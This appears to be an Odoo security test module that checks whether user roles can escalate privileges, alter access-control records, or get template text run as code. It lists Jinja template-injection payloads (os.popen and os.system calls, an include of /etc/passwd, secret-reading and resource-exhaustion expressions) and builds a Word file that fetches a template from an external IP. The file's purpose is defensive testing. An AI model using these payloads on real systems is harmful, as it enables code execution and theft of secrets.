"""Attacks 12 and 16 of docs/security.md: what decides on rights or is run as code."""

import base64
from collections import Counter

from odoo.models import MAGIC_COLUMNS
from odoo.tests import tagged
from odoo.tools import mute_logger

from odoo.addons.kuaidi_key_account.tests.word_files import (
    build_docx,
    change_docx,
    read_part,
)

from . import access_tables
from .attack_common import QUIET, AttackCase

POWERS = (
    "base.automation",
    "ir.actions.act_window",
    "ir.actions.report",
    "ir.actions.server",
    "ir.asset",
    "ir.attachment",
    "ir.config_parameter",
    "ir.cron",
    "ir.default",
    "ir.mail_server",
    "ir.model.access",
    "ir.model.fields",
    "ir.rule",
    "ir.sequence",
    "ir.ui.menu",
    "ir.ui.view",
    "mail.alias",
    "mail.template",
    "res.company",
    "res.groups",
    "res.users",
    "tier.definition",
)
# what of these Odoo lets every user have: files, defaults and mails of their own
OWN_THINGS = {"ir.attachment", "ir.default", "mail.template"}
CODE = "{{ object.env['ir.config_parameter'].sudo().get_param('database.secret') }}"
# of whom documents are made, and who keeps them
TEMPLATES = ("kuaidi.bid.layout", "kuaidi.contract.template", "kuaidi.tender.template")
KEEPERS = ("crm_centre", "admin")
# a field that an honest one names
FIELDS = {
    "kuaidi.bid.layout": "{{ body }}",
    "kuaidi.contract.template": "{{ number }}",
}
# what a rule is made of, beside texts that nothing works out
CHOSEN = ("date", "float", "integer", "monetary", "selection")
PAYLOADS = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].system('id') }}",
    "{{ env['res.users'].sudo().search([]) }}",
    "{{ 7 * 7919 }}",
    "{{ 'x' * 999999999 }}",
    "{{ number.__class__ }}",
    "{{ number|attr('__class__') }}",
    "{% for x in range(999999999) %}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% set x = cycler %}",
)
RELATIONS = "word/_rels/document.xml.rels"
OUTSIDE = (
    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
    b'2006/relationships/attachedTemplate" Target="http://10.9.8.7/x.dotm"'
    b' TargetMode="External"/></Relationships>'
)


@tagged("post_install", "-at_install")
class TestAttackOnRights(AttackCase):
    """Each role tries to raise itself, and to have a text of its own run as code."""

    def _find_power(self, name):
        """Return a record that decides for all: one that no test made."""
        known = self.env["ir.model.data"].search([("model", "=", name)], limit=1)
        records = self.env[name].sudo().with_context(active_test=False)
        if known:
            return records.browse(known.res_id)
        return records.search([("create_uid", "=", 1)], limit=1) or records.search(
            [], limit=1
        )

    # === TESTS === #

    @mute_logger(*QUIET)
    def test_no_role_changes_what_decides_on_rights_or_runs_as_code(self):
        tried, succeeded = Counter(), []
        for name in POWERS:
            if name not in self.env:
                continue
            record = self._find_power(name)
            for role, user in self.everybody.items():
                for method, *arguments in (
                    ("write", record.ids, {"create_uid": user.id}),
                    ("web_save", record.ids, {"display_name": CODE}, {"id": {}}),
                    ("unlink", record.ids),
                    ("copy", record.ids),
                ):
                    if method == "copy" and name in OWN_THINGS:
                        continue
                    tried[role] += 1
                    answer, changes = self._call(user, name, method, *arguments)
                    if changes:
                        succeeded.append((role, name, method, changes[0][:80]))
                model = self.env[name].with_user(user)
                tried[role] += 1
                if name not in OWN_THINGS and model.has_access("create"):
                    succeeded.append((role, name, "create"))
        self._report(12, "rights and code", tried, succeeded)

    @mute_logger(*QUIET)
    def test_nobody_gives_themselves_a_role(self):
        groups = self.env["res.groups"].browse(
            self.env.ref(xmlid).id for xmlid in access_tables.ROLES.values()
        )
        groups |= self.env.ref("base.group_system") | self.env.ref(
            "base.group_erp_manager"
        )
        tried, succeeded = Counter(), []
        for role, user in self.everybody.items():
            for group in groups - user.all_group_ids:
                command = [(4, group.id)]
                for name, record, values in (
                    ("res.users", user, {"group_ids": command}),
                    ("res.groups", group, {"user_ids": [(4, user.id)]}),
                    ("res.groups", user.group_ids[:1], {"implied_ids": command}),
                ):
                    tried[role] += 1
                    answer, changes = self._call(
                        user, name, "write", record.ids, values
                    )
                    if answer or changes:
                        succeeded.append((role, name, group.name))
        self._report(12, "roles taken", tried, succeeded)

    @mute_logger(*QUIET)
    def test_only_the_centre_keeps_the_templates_of_documents(self):
        tried, succeeded = Counter(), []
        for role, user in self.everybody.items():
            if role in KEEPERS:
                continue
            for name in TEMPLATES:
                record = self.records[name]
                for method, *arguments in (
                    ("write", record.ids, {"name": CODE}),
                    ("create", [self.values[name]]),
                    ("copy", record.ids),
                    ("unlink", record.ids),
                ):
                    tried[role] += 1
                    answer, changes = self._call(user, name, method, *arguments)
                    if answer or changes:
                        succeeded.append((role, name, method))
        self._report(16, "templates of documents", tried, succeeded)

    @mute_logger(*QUIET)
    def test_no_template_that_is_uploaded_holds_code(self):
        tried, succeeded = Counter(), []
        for name, field in FIELDS.items():
            honest = build_docx(field)
            files = {text: build_docx(field, text) for text in PAYLOADS} | {
                "header": build_docx(field, header=PAYLOADS[0]),
                "title": build_docx(field, title=PAYLOADS[1]),
                "macros": change_docx(honest, {"word/vbaProject.bin": b"x"}),
                "template of another server": self._add_relation(honest),
            }
            for role, user in self.everybody.items():
                for title, content in files.items():
                    tried[role] += 1
                    values = {"name": "x", "document": base64.b64encode(content)}
                    answer, changes = self._call(user, name, "create", [values])
                    if answer or changes:
                        succeeded.append((role, name, title))
        self._report(16, "uploaded templates", tried, succeeded)

    def test_an_honest_template_is_taken_of_those_who_keep_them(self):
        for name, field in FIELDS.items():
            values = {"name": "x", "document": base64.b64encode(build_docx(field))}
            for role in KEEPERS:
                with self.subTest(model=name, role=role):
                    answer, _changes = self._call(
                        self.everybody[role], name, "create", [values]
                    )
                    self.assertTrue(answer)

    @mute_logger(*QUIET)
    def test_no_role_writes_code_into_our_mails_views_and_rules(self):
        tried, succeeded = Counter(), []
        texts = (
            ("mail.template", "body_html"),
            ("mail.template", "subject"),
            ("mail.template", "email_to"),
            ("ir.ui.view", "arch"),
            ("ir.actions.report", "print_report_name"),
            ("ir.sequence", "prefix"),
        )
        for name, field in texts:
            record = self._get_own(name)[:1] or self._find_power(name)
            self.assertTrue(record, name)
            for role, user in self.everybody.items():
                tried[role] += 1
                answer, changes = self._call(
                    user, name, "write", record.ids, {field: CODE}
                )
                if changes:
                    succeeded.append((role, name, field))
        self._report(16, "code in mails and views", tried, succeeded)

    @mute_logger(*QUIET)
    def test_no_rule_of_ours_takes_an_expression(self):
        """Measures, operators and limits are chosen, never written."""
        tried, succeeded = Counter(), []
        for name in ("kuaidi.alert.rule", "kuaidi.star.level", "kuaidi.dunning.policy"):
            record = self.records[name] or self.env[name].search([], limit=1)
            self.assertTrue(record, name)
            for field in self.env[name]._fields.values():
                if (
                    not field.store
                    or field.name in MAGIC_COLUMNS
                    or field.type not in CHOSEN
                ):
                    continue
                for role, user in self.everybody.items():
                    tried[role] += 1
                    _answer, changes = self._call(
                        user, name, "write", record.ids, {field.name: CODE}
                    )
                    if changes:
                        succeeded.append((role, name, field.name))
        self._report(16, "expressions in rules", tried, succeeded)

    def _add_relation(self, content):
        """Return a Word file whose template is fetched from another server."""
        part = read_part(content, RELATIONS)
        return change_docx(
            content, {RELATIONS: part.replace(b"</Relationships>", OUTSIDE)}
        )
